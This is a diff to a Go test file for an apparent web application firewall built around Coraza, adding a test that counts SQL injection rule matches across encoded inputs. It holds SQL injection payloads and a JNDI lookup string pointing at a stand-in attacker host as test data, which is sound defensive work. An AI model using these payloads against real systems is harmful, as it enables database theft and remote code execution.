@@ -214,6 +214,34 @@ func TestNoRequestTakesTheRulesAway(t *testing.T) {
 	}
 }
 
+// A rule with multiMatch counts for each text on the way that it matches, of which there are more the more is undone.
+func TestWhatIsCertainCountsAsOftenAsItMatches(t *testing.T) {
+	for text, want := range map[string]int{
+		"1' or 1=1--":                               1,
+		"a%27%20or%20%271%27=%271":                  1, // only when it is undone
+		"1' or 1=1-- %41":                           2,
+		"1' or 1=1-- %41%00":                        3,
+		"1' or 1=1-- \u00e9%00":                     4,
+		"1' union select password from users where": 1,
+	} {
+		values := []engine.Value{{Name: "a", Text: text}}
+		asked := certainOf(sieveAt(1), nil, values)
+		times := 0
+		for _, rule := range asked.Certain[0] {
+			if rule == 942100 {
+				times++
+			}
+		}
+		if times != want {
+			t.Errorf("%q matches %d times", text, times)
+		}
+		told := make(map[int]bool)
+		if toldTwice(t, 1, nil, values, "", told); !told[942100] {
+			t.Errorf("%q: Coraza was asked", text)
+		}
+	}
+}
+
 // Where something is suspected of the request, Coraza is asked about all.
 func TestNothingIsCertainBesideARequestThatIsSuspect(t *testing.T) {
 	values := []engine.Value{{Name: "a", Text: "${jndi:ldap://attacker.example/a}"}}
